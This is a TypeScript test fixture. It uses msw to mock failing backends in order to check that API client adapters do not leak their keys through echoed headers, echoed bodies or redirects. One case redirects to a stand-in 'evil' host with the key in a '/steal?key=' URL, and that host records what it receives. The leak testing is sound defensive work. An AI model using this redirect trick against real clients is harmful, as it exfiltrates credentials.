// Backends that fail in the ways that tempt a client to leak its keys: 401,
// 403 echoing the request headers back, 400 echoing the request body, 500
// echoing headers (retried, so it lands in lastError), a network error, and a
// redirect to another host whose URL carries the key. Every request any
// adapter makes — to its own backend or anywhere else — is recorded.
import { gunzipSync } from "node:zlib";
import { http, HttpResponse } from "msw";
import { setupServer, type SetupServer } from "msw/node";
import { BACKENDS } from "./secrets.js";

export type Failure = "401" | "403 echoing headers" | "400 echoing body" | "500 echoing headers" | "network error" | "redirect with the key in its URL";
export const FAILURES: readonly Failure[] = ["401", "403 echoing headers", "400 echoing body", "500 echoing headers", "network error", "redirect with the key in its URL"];

export interface SeenRequest {
  host: string;
  method: string;
  url: string;
  headers: Record<string, string>;
  body: string;
  /** What the fake backend answered with (to prove an echo carried a key back). */
  answer: string;
}

function bodyText(raw: Uint8Array, headers: Record<string, string>): string {
  const bytes = headers["content-encoding"] === "gzip" ? gunzipSync(raw) : Buffer.from(raw);
  // Binary (protobuf) bodies are searched as latin1 so every byte sequence survives.
  return bytes.toString("latin1");
}

function answer(failure: Failure, headers: Record<string, string>, body: string): { response: Response; text: string } {
  const echoHeaders = JSON.stringify(headers);
  switch (failure) {
    case "401":
      return { response: HttpResponse.json({ message: "Invalid credentials" }, { status: 401 }), text: "" };
    case "403 echoing headers":
      return { response: HttpResponse.json({ message: `forbidden: ${echoHeaders}`, detail: echoHeaders }, { status: 403 }), text: echoHeaders };
    case "400 echoing body":
      return { response: new HttpResponse(`bad request: ${body.slice(0, 2000)} headers=${echoHeaders}`, { status: 400 }), text: echoHeaders };
    case "500 echoing headers":
      return { response: new HttpResponse(`<html>proxy error ${echoHeaders}</html>`, { status: 500, headers: { "content-type": "text/html" } }), text: echoHeaders };
    case "network error":
      return { response: HttpResponse.error(), text: "" };
    case "redirect with the key in its URL": {
      const key = headers["authorization"] ?? headers["x-api-key"] ?? "";
      const location = `${BACKENDS.evil}/steal?key=${encodeURIComponent(key)}`;
      return { response: new HttpResponse(null, { status: 307, headers: { location } }), text: location };
    }
  }
}

/** An msw server where every backend fails with `failure()` (read per request) and the evil host records. */
export function failingBackends(current: () => Failure, seen: SeenRequest[]): SetupServer {
  const handlers = Object.entries(BACKENDS).map(([host, base]) =>
    http.all(`${base}/*`, async ({ request }) => {
      const headers = Object.fromEntries(request.headers.entries());
      const body = bodyText(new Uint8Array(await request.arrayBuffer()), headers);
      const record: SeenRequest = { host, method: request.method, url: request.url, headers, body, answer: "" };
      seen.push(record);
      if (host === "evil") return HttpResponse.json({ stolen: true });
      const { response, text } = answer(current(), headers, body);
      record.answer = text;
      return response;
    }),
  );
  return setupServer(...handlers);
}
